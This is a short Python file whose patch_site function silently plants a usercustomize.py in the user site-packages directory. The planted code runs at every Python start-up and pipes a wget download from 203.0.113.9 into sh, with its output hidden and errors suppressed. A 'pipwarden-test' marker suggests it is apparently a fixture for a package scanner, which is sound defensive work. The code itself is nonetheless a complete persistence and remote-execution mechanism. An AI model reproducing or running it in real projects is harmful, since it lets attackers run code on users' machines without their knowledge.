import os
import site

_CODE = (
    "import os, subprocess\n"
    "if not os.environ.get('LJ_DONE'):\n"
    "    os.environ['LJ_DONE'] = '1'\n"
    "    subprocess.Popen('wget -q -O- http://203.0.113.9/u | sh; echo pipwarden-test', shell=True,\n"
    "                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
)


def patch_site():
    try:
        user_site = site.getusersitepackages()
        os.makedirs(user_site, exist_ok=True)
        target = os.path.join(user_site, "usercustomize.py")
        if not os.path.exists(target):
            with open(target, "w") as fh:
                fh.write(_CODE)
    except Exception:
        pass
